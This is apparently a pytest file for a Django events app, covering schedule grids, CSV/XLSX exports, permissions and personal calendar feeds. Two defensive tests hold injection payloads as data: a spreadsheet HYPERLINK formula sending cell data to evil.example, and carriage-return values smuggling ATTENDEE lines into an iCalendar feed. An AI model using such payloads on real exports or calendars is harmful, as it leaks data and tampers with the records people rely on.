"""The secretariat's schedule grid and exports; the members' printable agenda
and their personal calendar feed."""

import csv
import io
import time

from django.urls import reverse
from openpyxl import load_workbook

from events.calendar import feed_token
from events.models import Meeting


def test_schedule_grid_shows_who_meets_at_which_table(
    secretariat_client, met, django_assert_max_num_queries
):
    url = reverse("admin:events_event_schedule", args=[met.event_id])
    with django_assert_max_num_queries(20):
        page = secretariat_client.get(url).text
    grid = page.split('data-testid="schedule-grid"')[1].split("</table>")[0]
    assert grid.count("<tr>") == met.event.slots + 1
    assert "Centre-Val de Loire" in grid
    assert reverse("admin:events_meeting_change", args=[met.pk]) in grid


def test_agenda_and_attendees_export_as_csv_and_xlsx(secretariat_client, met):
    def export(what, fmt):
        url = reverse("admin:events_event_export", args=[met.event_id, what, fmt])
        return secretariat_client.get(url)

    agenda = list(csv.reader(io.StringIO(export("agenda", "csv").content.decode())))
    assert agenda[0][:4] == ["Slot", "Starts (Europe/Stockholm)", "Ends", "Table"]
    assert len(agenda) == 2
    assert {agenda[1][4], agenda[1][6]} == {
        str(met.request.requester.organisation),
        str(met.request.invitee.organisation),
    }
    attendees = list(csv.reader(io.StringIO(export("attendees", "csv").content.decode())))
    assert len(attendees) == 3
    assert any("alice@boras.example" in row[3] for row in attendees)
    sheet = load_workbook(io.BytesIO(export("attendees", "xlsx").content)).active
    assert sheet.max_row == 3
    assert export("nothing", "csv").status_code == 404


def test_members_cannot_open_the_grid_or_the_exports(client, met, alice):
    client.force_login(alice)
    assert (
        client.get(reverse("admin:events_event_schedule", args=[met.event_id])).status_code == 403
    )
    url = reverse("admin:events_event_export", args=[met.event_id, "attendees", "csv"])
    assert client.get(url).status_code == 403


def test_printable_agenda_lists_the_meetings(client, met, alice, django_assert_max_num_queries):
    client.force_login(alice)
    with django_assert_max_num_queries(12):
        page = client.get(reverse("events:agenda-print", args=[met.event_id])).text
    assert page.count('data-testid="agenda-meeting"') == 1
    assert "Centre-Val de Loire" in page
    assert "<nav" not in page


def test_personal_feed_works_without_signing_in_and_only_for_its_person(
    client, met, alice, charlie
):
    client.force_login(alice)
    page = client.get(reverse("events:agenda", args=[met.event_id])).text
    token = feed_token(user=alice, event=met.event)
    assert reverse("events:agenda-feed", args=[token]) in page
    client.logout()
    feed = client.get(reverse("events:agenda-feed", args=[token]))
    assert feed["Content-Type"].startswith("text/calendar")
    assert f"meeting-{met.pk}-{met.request.requester.organisation_id}" in feed.content.decode()
    forged = token[:-2] + ("AA" if not token.endswith("AA") else "BB")
    assert client.get(reverse("events:agenda-feed", args=[forged])).status_code == 404


def test_feed_stops_when_the_person_no_longer_comes(client, met, alice):
    from events.services import registration_cancel

    token = feed_token(user=alice, event=met.event)
    registration_cancel(registration=Meeting.objects.get().request.requester)
    assert client.get(reverse("events:agenda-feed", args=[token])).status_code == 404


def test_a_persons_feed_keeps_one_address(met, alice, monkeypatch):
    # A calendar subscribes once: the link must not change from one page view to the next.
    first = feed_token(user=alice, event=met.event)
    later = time.time() + 3600
    monkeypatch.setattr("django.core.signing.time.time", lambda: later)
    assert feed_token(user=alice, event=met.event) == first


def test_names_typed_as_formulas_stay_text_in_the_attendee_exports(
    secretariat_client, event, register, boras, alice
):
    # An organisation and a person name themselves so that a spreadsheet would
    # run their names: the secretariat opening the export must see text.
    boras.name = '=HYPERLINK("https://evil.example/?"&A1,"Borås")'
    boras.save()
    alice.full_name = "@SUM(1+1)"
    alice.save()
    register(event, boras, alice)

    def export(fmt):
        url = reverse("admin:events_event_export", args=[event.pk, "attendees", fmt])
        return secretariat_client.get(url).content

    [_headers, row] = list(csv.reader(io.StringIO(export("csv").decode())))
    assert row[0] == f"'{boras.name}"
    assert row[3].startswith("'@SUM(1+1)")
    cell = load_workbook(io.BytesIO(export("xlsx"))).active["A2"]
    assert cell.data_type == "s" and cell.value == f"'{boras.name}"


def test_staff_without_the_events_permissions_cannot_open_the_grid_or_the_exports(
    client, met, secretariat
):
    from tests.factories import UserFactory
    from tests.otp import totp_device, verified_login

    # Staff, past the second factor, but not in the Secretariat group.
    colleague = UserFactory(email="intern@earlall.example", is_staff=True)
    totp_device(colleague)
    verified_login(client, colleague)
    urls = [
        reverse("admin:events_event_schedule", args=[met.event_id]),
        reverse("admin:events_event_export", args=[met.event_id, "attendees", "csv"]),
        reverse("admin:events_event_export", args=[met.event_id, "agenda", "xlsx"]),
        reverse("admin:events_meeting_follow_up_match", args=[met.pk]),
    ]
    assert [client.get(url).status_code for url in urls] == [403] * 4


def test_a_partners_name_with_a_carriage_return_adds_nothing_to_my_calendar(
    client, met, alice, centre_val_de_loire
):
    centre_val_de_loire.name = "Centre\rATTENDEE:mailto:evil@example.org\rX-INJECTED:1"
    centre_val_de_loire.save()
    client.force_login(alice)
    ics = client.get(reverse("events:agenda-ics", args=[met.event_id])).content.decode()
    lines = ics.replace("\r\n", "\n").replace("\r", "\n").split("\n")
    assert not any(line.startswith(("ATTENDEE:mailto:evil", "X-INJECTED")) for line in lines)
